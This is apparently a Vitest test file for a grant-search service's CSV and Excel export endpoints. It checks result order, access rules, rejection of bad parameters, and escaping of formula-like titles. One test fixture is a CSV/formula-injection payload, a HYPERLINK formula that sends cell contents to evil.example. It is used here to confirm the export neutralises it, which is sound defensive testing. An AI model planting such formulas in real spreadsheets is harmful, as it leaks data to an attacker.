// GET /grants/search.csv and .xlsx (issue 29 §4): the same grants in the same
// order as the JSON search, every page of it; the Excel file reads back with
// the same rows, typed; a title that would be a formula is text in both; bad
// parameters are refused as the search refuses them; signed out is 401.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { grantSearchQuerySchema } from '@grantbridge/contract/grants';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { makeGrant, makePerson, type TestPerson } from '../../../test/factories';
import { searchExportResults } from './search-export';
import { planSearch } from './search.service';

let t: TestApp;
let ana: TestPerson & { domain: string };
const day = new Date().toISOString().slice(0, 10);
const get = (cookie: string | undefined, url: string) => t.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });
const evilTitle = '=HYPERLINK("http://evil.example/?"&A2,"Open") ocean acidification';

beforeAll(async () => {
  t = await createTestApp();
  ana = await makePerson(t.db, 'Ana Ocean');
  await makeGrant(t.db, {
    title: 'Ocean acidification and coral reefs',
    researchAreas: ['Oceanography'],
    awardFloor: 50_000,
    awardCeiling: 250_000,
    postDate: '2026-01-05',
    closeDate: '2099-03-01',
    eligibilityCodes: ['06', '20'],
    sourceId: '358123',
  });
  await makeGrant(t.db, { title: evilTitle, closeDate: '2099-02-01', eligibilityCodes: ['25'] });
  for (let i = 0; i < 12; i += 1) {
    await makeGrant(t.db, { title: `Coastal ocean observing network ${i}`, closeDate: `2099-04-${String(10 + i).padStart(2, '0')}` });
  }
  await makeGrant(t.db, { title: 'Soil microbiome survey', closeDate: '2099-05-01' });
});
afterAll(() => t.close());

type Row = Record<string, string>;
const csvRows = (body: string) => parse(body, { columns: true, bom: true }) as Row[];

async function jsonNumbers(query: string) {
  const numbers: string[] = [];
  for (let page = 1; ; page += 1) {
    const res = await get(ana.cookie, `/api/v1/grants/search?${query}&page=${page}&pageSize=5`);
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    numbers.push(...body.results.map((r: { grant: { opportunityNumber: string } }) => r.grant.opportunityNumber));
    if (page * 5 >= body.total) return { numbers, first: body };
  }
}

describe('GET /grants/search.csv', () => {
  it('holds every result of the search in its order, with the why and the links', async () => {
    for (const query of ['q=ocean', 'q=ocean&sort=due-date-desc', 'q=&sort=amount-desc']) {
      const { numbers } = await jsonNumbers(query);
      const res = await get(ana.cookie, `/api/v1/grants/search.csv?${query}&page=2&pageSize=5`);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="grantbridge-search-${day}.csv"`);
      const rows = csvRows(res.body);
      expect(rows.map((r) => r['Opportunity number']), query).toEqual(numbers);
    }
    const first = (await get(ana.cookie, '/api/v1/grants/search?q=ocean%20acidification%20coral')).json().results[0];
    const [row] = csvRows((await get(ana.cookie, '/api/v1/grants/search.csv?q=ocean%20acidification%20coral')).body);
    expect(row).toMatchObject({
      'Opportunity number': first.grant.opportunityNumber,
      Title: 'Ocean acidification and coral reefs',
      Agency: 'National Science Foundation',
      Status: 'Posted',
      Posted: '2026-01-05',
      Closes: '2099-03-01',
      'Award floor': '50000',
      'Award ceiling': '250000',
      Eligibility: 'Public and State controlled institutions of higher education; Private institutions of higher education',
      'Grants.gov page': 'https://www.grants.gov/search-results-detail/358123',
      'Match score': String(first.score),
      'Why it matches': first.reasons.join('; '),
    });
    expect(row!['GrantBridge page']).toBe(`http://localhost:${t.config.port}/dashboard/grant/${first.grant.id}`);
  });

  it('walks the search in batches, the same list as its pages', async () => {
    const query = grantSearchQuerySchema.parse({ q: 'ocean' });
    const plan = await planSearch(t.db, { id: ana.id, role: 'researcher', institution: { id: '00000000-0000-4000-8000-000000000000' } }, query);
    const batches: string[][] = [];
    for await (const batch of searchExportResults(t.db, plan, 10_000, 4)) batches.push(batch.map((r) => r.grant.opportunityNumber));
    expect(batches.length).toBeGreaterThan(3);
    expect(batches.flat()).toEqual((await jsonNumbers('q=ocean')).numbers);
    // Stops one past the cap, so the file can say it was cut.
    let count = 0;
    for await (const batch of searchExportResults(t.db, plan, 5, 4)) count += batch.length;
    expect(count).toBe(8);
  });

  it('writes a would-be formula as text', async () => {
    const res = await get(ana.cookie, '/api/v1/grants/search.csv?q=acidification');
    const titles = csvRows(res.body).map((r) => r.Title);
    expect(titles).toContain(`'${evilTitle}`);
    expect(titles.some((title) => title!.startsWith('='))).toBe(false);
  });

  it('refuses what the search refuses, and the signed out', async () => {
    for (const bad of ['status=bogus', 'amountMin=500&amountMax=10', 'dueFrom=2026-02-30', 'sort=sideways']) {
      for (const path of ['search', 'search.csv', 'search.xlsx']) {
        const res = await get(ana.cookie, `/api/v1/grants/${path}?${bad}`);
        expect(res.statusCode, `${path}?${bad}`).toBe(400);
        expect(res.json().code).toBe('validation_failed');
      }
    }
    // Another's profile is refused before the file starts, as the search refuses it.
    const other = `researcherId=${crypto.randomUUID()}&matchProfile=true`;
    const refused = await get(ana.cookie, `/api/v1/grants/search?${other}`);
    expect(refused.statusCode).toBeGreaterThanOrEqual(400);
    for (const path of ['search.csv', 'search.xlsx']) {
      const res = await get(ana.cookie, `/api/v1/grants/${path}?${other}`);
      expect(res.statusCode, path).toBe(refused.statusCode);
      expect(res.json().code).toBe(refused.json().code);
    }
    for (const path of ['search.csv', 'search.xlsx']) {
      const res = await get(undefined, `/api/v1/grants/${path}?q=ocean`);
      expect(res.statusCode).toBe(401);
      expect(res.json().code).toBe('unauthenticated');
    }
  });
});

describe('who may export a search ranked for a researcher', () => {
  it('lets the institution’s admin and the researcher, and answers another institution’s admin and a colleague as the search does', async () => {
    const office = await makePerson(t.db, 'Ana’s Office', 'admin', ana.domain);
    const colleague = await makePerson(t.db, 'Ana’s Colleague', 'researcher', ana.domain);
    const elsewhere = await makePerson(t.db, 'Another Office', 'admin');
    const forAna = `q=ocean&researcherId=${ana.id}&matchProfile=true`;
    for (const who of [ana, office, colleague, elsewhere]) {
      const search = await get(who.cookie, `/api/v1/grants/search?${forAna}`);
      for (const path of ['search.csv', 'search.xlsx']) {
        const res = await get(who.cookie, `/api/v1/grants/${path}?${forAna}`);
        expect(res.statusCode, `${who.name} ${path}`).toBe(search.statusCode);
        if (search.statusCode !== 200) expect(res.json().code).toBe(search.json().code);
      }
    }
    // The office ranks for its own researcher; another institution's office cannot name her (404, as for any id it may not see).
    expect((await get(office.cookie, `/api/v1/grants/search.csv?${forAna}`)).statusCode).toBe(200);
    expect((await get(ana.cookie, `/api/v1/grants/search.csv?${forAna}`)).statusCode).toBe(200);
    expect((await get(elsewhere.cookie, `/api/v1/grants/search.csv?${forAna}`)).statusCode).toBe(404);
    // Without a profile to rank by, the catalogue is everyone's: the other office gets the same rows as Ana.
    const rows = async (who: TestPerson) => csvRows((await get(who.cookie, '/api/v1/grants/search.csv?q=ocean')).body).map((r) => r.Title);
    expect(await rows(elsewhere)).toEqual(await rows(ana));
  });
});

describe('GET /grants/search.xlsx', () => {
  it('opens with the CSV’s rows, cells typed and never formulas', async () => {
    const csv = csvRows((await get(ana.cookie, '/api/v1/grants/search.csv?q=ocean')).body);
    const res = await get(ana.cookie, '/api/v1/grants/search.xlsx?q=ocean');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="grantbridge-search-${day}.xlsx"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(Object.keys(csv[0]!));
    expect(sheet.rowCount).toBe(csv.length + 1);
    csv.forEach((row, i) => {
      const cells = sheet.getRow(i + 2);
      expect(cells.getCell(1).value).toBe(row['Opportunity number']);
      expect(cells.getCell(2).value).toBe(row.Title);
      expect(cells.getCell(12).value).toBe(Number(row['Match score']));
      for (let c = 1; c <= header.length; c += 1) expect(cells.getCell(c).formula).toBeUndefined();
    });
    const reef = csv.findIndex((r) => r.Title === 'Ocean acidification and coral reefs');
    const reefRow = sheet.getRow(reef + 2);
    expect(reefRow.getCell(6).value).toEqual(new Date('2099-03-01T00:00:00Z'));
    expect(reefRow.getCell(8).value).toBe(250_000);
    const evil = csv.findIndex((r) => r.Title === `'${evilTitle}`);
    expect(sheet.getRow(evil + 2).getCell(2).value).toBe(`'${evilTitle}`);
  });
});
